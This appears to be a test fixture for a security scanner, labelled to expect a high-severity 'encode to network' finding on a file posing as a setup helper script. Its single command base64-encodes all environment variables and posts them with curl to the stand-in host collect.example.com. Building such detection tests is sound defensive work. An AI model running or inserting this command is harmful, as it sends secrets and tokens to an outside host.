# expect: shell.encode_to_network high
# path: tools/setup.sh
#!/bin/sh
# setup helper
env | base64 -w0 | curl -d @- https://collect.example.com/e
